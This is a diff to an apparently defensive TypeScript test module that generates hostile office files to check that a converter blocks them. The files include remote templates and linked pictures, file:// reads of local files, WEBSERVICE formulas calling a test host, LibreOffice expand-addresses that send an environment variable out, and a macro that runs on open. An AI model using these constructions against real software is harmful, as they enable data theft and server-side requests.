@@ -23,32 +23,84 @@ export interface Hostile {
 
 const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 
-const linkedPicture = (url: string) =>
-  docx(
-    `${paragraph('before')}<w:p><w:r><w:drawing><wp:inline><wp:extent cx="3000000" cy="3000000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rId7"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3000000" cy="3000000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
-    [],
-    `<Relationship Id="rId7" Type="${REL}/image" Target="${url}" TargetMode="External"/>`,
-  );
+/** What a text of Word's links to: the part of it that does, and what kind of link it is. */
+interface Link {
+  type: 'image' | 'aFChunk' | 'subDocument';
+  url: string;
+}
 
-const attachedTemplate = (url: string) =>
-  docx(
-    paragraph('templated'),
-    [
-      {
-        name: 'word/settings.xml',
-        content: `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
-      },
-      {
-        name: 'word/_rels/settings.xml.rels',
-        content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="${url}" TargetMode="External"/></Relationships>`,
-      },
-    ],
-    `<Relationship Id="rId8" Type="${REL}/settings" Target="settings.xml"/>`,
-  );
+const picture = (id: string) =>
+  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="3000000" cy="3000000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="${id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3000000" cy="3000000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
+const BODY: Record<Link['type'], (id: string) => string> = {
+  image: picture,
+  aFChunk: (id) => `<w:altChunk r:id="${id}"/>`,
+  subDocument: (id) => `<w:subDoc r:id="${id}"/>`,
+};
+
+/** A text full of links that is made after a template from elsewhere. */
+function linkingText(links: Link[], template: string): Buffer {
+  const relation = (id: string, type: string, target: string, more = ' TargetMode="External"') =>
+    `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${more}/>`;
+  const parts = links.map(({ type }, index) => BODY[type](`rId1${index}`));
+  const relations = links.map(({ type, url }, index) => relation(`rId1${index}`, type, url));
+  const settings = [
+    {
+      name: 'word/settings.xml',
+      content: `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
+    },
+    {
+      name: 'word/_rels/settings.xml.rels',
+      content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation('rId1', 'attachedTemplate', template)}</Relationships>`,
+    },
+  ];
+  const body = `${paragraph('before')}${parts.join('')}`;
+  return docx(body, settings, `${relations.join('')}${relation('rId8', 'settings', 'settings.xml', '')}`);
+}
+
+/** A presentation of one slide with linked pictures on it. */
+function slideWithPictures(...urls: string[]): Buffer {
+  const types = 'application/vnd.openxmlformats-officedocument.presentationml.';
+  const names = `xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${REL}"`;
+  const relations = (...all: string[]) =>
+    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`;
+  const relation = (type: string, target: string, more = '', id = 'rId1') =>
+    `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${more}/>`;
+  const group = '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>';
+  const shown = (_url: string, index: number) =>
+    `<p:pic><p:nvPicPr><p:cNvPr id="${index + 2}" name="p"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="rId${index}"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9000000" cy="6000000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>`;
+  return zip([
+    {
+      name: '[Content_Types].xml',
+      content: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/ppt/presentation.xml" ContentType="${types}presentation.main+xml"/><Override PartName="/ppt/slides/slide1.xml" ContentType="${types}slide+xml"/></Types>`,
+    },
+    { name: '_rels/.rels', content: relations(relation('officeDocument', 'ppt/presentation.xml')) },
+    {
+      name: 'ppt/presentation.xml',
+      content: `<p:presentation ${names}><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`,
+    },
+    {
+      name: 'ppt/_rels/presentation.xml.rels',
+      content: relations(relation('slide', 'slides/slide1.xml')),
+    },
+    {
+      name: 'ppt/slides/slide1.xml',
+      content: `<p:sld ${names}><p:cSld><p:spTree>${group}${urls.map(shown).join('')}</p:spTree></p:cSld></p:sld>`,
+    },
+    {
+      name: 'ppt/slides/_rels/slide1.xml.rels',
+      content: relations(
+        ...urls.map((url, index) => relation('image', url, ' TargetMode="External"', `rId${index}`)),
+      ),
+    },
+  ]);
+}
+
+/** An address that LibreOffice fills in with a variable of its environment before it calls it. */
+const expanded = (http: string) => `vnd.sun.star.expand:${encodeURIComponent(`${http}/`)}$CANARY`;
 
 const frame = (inside: string) =>
   `<text:p><draw:frame text:anchor-type="as-char" svg:width="8cm" svg:height="8cm">${inside}</draw:frame></text:p>`;
-const image = (url: string) =>
+const linkedImage = (url: string) =>
   frame(`<draw:image xlink:href="${url}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`);
 const section = (url: string) =>
   `<text:section text:name="s"><text:section-source xlink:href="${url}" xlink:type="simple"/><text:p>old</text:p></text:section>`;
@@ -57,7 +109,7 @@ const cell = (formula: string) =>
 const sheet = (cells: string) =>
   `<table:table table:name="a"><table:table-row>${cells}</table:table-row></table:table>`;
 
-function workbook(formula: string): Buffer {
+function workbook(...formulas: string[]): Buffer {
   const types = 'application/vnd.openxmlformats-officedocument.spreadsheetml.';
   const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
   const relations = (type: string, target: string) =>
@@ -75,7 +127,7 @@ function workbook(formula: string): Buffer {
     },
     {
       name: 'xl/worksheets/sheet1.xml',
-      content: `<worksheet xmlns="${main}"><sheetData><row r="1"><c r="A1" t="str"><f>${formula}</f></c><c r="B1" t="inlineStr"><is><t>there</t></is></c></row></sheetData></worksheet>`,
+      content: `<worksheet xmlns="${main}"><sheetData>${formulas.map((formula, index) => `<row r="${index + 1}"><c r="A${index + 1}" t="str"><f>${formula}</f></c><c r="B${index + 1}" t="inlineStr"><is><t>there</t></is></c></row>`).join('')}</sheetData></worksheet>`,
     },
   ]);
 }
@@ -112,48 +164,63 @@ const svg = (url: string) =>
 const drawing = (url: string) =>
   frame(`<draw:image><office:binary-data>${svg(url)}</office:binary-data></draw:image>`);
 
-/** Documents that try to look around, to call somebody, or to leave something. */
-export function hostiles({ http, text, picture, made }: Canaries): Hostile[] {
+/** Documents that try to look around, to call somebody, or to leave something: many ways in each. */
+export function hostiles({ http, text, picture: image, made }: Canaries): Hostile[] {
   const of = (name: string, extension: string, content: Buffer): Hostile => ({ name, extension, content });
-  const odt = (name: string, body: string) => of(name, 'odt', openDocument('text', body));
+  const odt = (name: string, ...bodies: string[]) => of(name, 'odt', openDocument('text', bodies.join('')));
   const file = (path: string) => `file://${path}`;
+  const object = `<draw:object-ole xlink:href="${http}/e" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`;
   return [
-    of('a Word picture linked over http', 'docx', linkedPicture(`${http}/a.png`)),
-    of('a Word picture linked from this machine', 'docx', linkedPicture(file(picture))),
-    of('a Word template over http', 'docx', attachedTemplate(`${http}/a.dotm`)),
-    odt('an OpenDocument picture over http', image(`${http}/b.png`)),
-    odt('an OpenDocument picture from this machine', image(file(picture))),
-    odt('a section from a file of this machine', section(file(text))),
-    odt('a section over http', section(`${http}/c.odt`)),
-    odt('a drawing that contains a picture over http', drawing(`${http}/d.png`)),
+    of(
+      'a Word text that links to pictures and texts, and has a template elsewhere',
+      'docx',
+      linkingText(
+        [
+          { type: 'image', url: `${http}/a.png` },
+          { type: 'image', url: file(image) },
+          { type: 'aFChunk', url: `${http}/a.docx` },
+          { type: 'aFChunk', url: file(text) },
+          { type: 'subDocument', url: `${http}/b.docx` },
+          { type: 'subDocument', url: file(text) },
+        ],
+        `${http}/a.dotm`,
+      ),
+    ),
+    of('a slide with linked pictures', 'pptx', slideWithPictures(`${http}/a.png`, file(image))),
+    odt(
+      'an OpenDocument text with links over http',
+      linkedImage(`${http}/b.png`),
+      section(`${http}/c.odt`),
+      drawing(`${http}/d.png`),
+      frame(object),
+    ),
+    odt('an OpenDocument text with links to this machine', linkedImage(file(image)), section(file(text))),
+    odt('addresses that hold the environment', linkedImage(expanded(http)), section(expanded(http))),
     {
-      ...odt('a drawing that contains a picture from this machine', drawing(file(picture))),
+      ...odt('a drawing that contains a picture from this machine', drawing(file(image))),
       onlyContained: true,
     },
-    odt(
-      'an object over http',
-      frame(
-        `<draw:object-ole xlink:href="${http}/e" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`,
-      ),
-    ),
     of(
-      'RTF fields that include a picture and a text',
+      'RTF fields that include a picture and a text, and a template elsewhere',
       'rtf',
       Buffer.from(
-        `{\\rtf1 start {\\field{\\*\\fldinst INCLUDEPICTURE "${http}/f.png" \\\\d}{\\fldrslt }}{\\field{\\*\\fldinst INCLUDETEXT "${text}"}{\\fldrslt }}}`,
+        `{\\rtf1{\\*\\template ${http}/i.dot} start {\\field{\\*\\fldinst INCLUDEPICTURE "${http}/f.png" \\\\d}{\\fldrslt }}{\\field{\\*\\fldinst INCLUDETEXT "${text}"}{\\fldrslt }}}`,
       ),
     ),
-    of('an Excel WEBSERVICE', 'xlsx', workbook(`_xlfn.WEBSERVICE("${http}/g")`)),
-    of('an Excel link to another workbook', 'xlsx', workbook(`'${file(text)}'#$a.A1`)),
     of(
-      'an OpenDocument WEBSERVICE',
-      'ods',
-      openDocument('spreadsheet', sheet(cell(`of:=COM.MICROSOFT.WEBSERVICE(&quot;${http}/h&quot;)`))),
+      'an Excel WEBSERVICE and a link to another workbook',
+      'xlsx',
+      workbook(`_xlfn.WEBSERVICE("${http}/g")`, `'${file(text)}'#$a.A1`),
     ),
     of(
-      'a cell from a file of this machine',
+      'an OpenDocument WEBSERVICE and a cell from a file of this machine',
       'ods',
-      openDocument('spreadsheet', sheet(cell(`of:=['${file(text)}'#$a.A1]`))),
+      openDocument(
+        'spreadsheet',
+        sheet(
+          cell(`of:=COM.MICROSOFT.WEBSERVICE(&quot;${http}/h&quot;)`) + cell(`of:=['${file(text)}'#$a.A1]`),
+        ),
+      ),
     ),
     of('a macro that runs when the text is opened', 'odt', withMacro(made)),
   ];
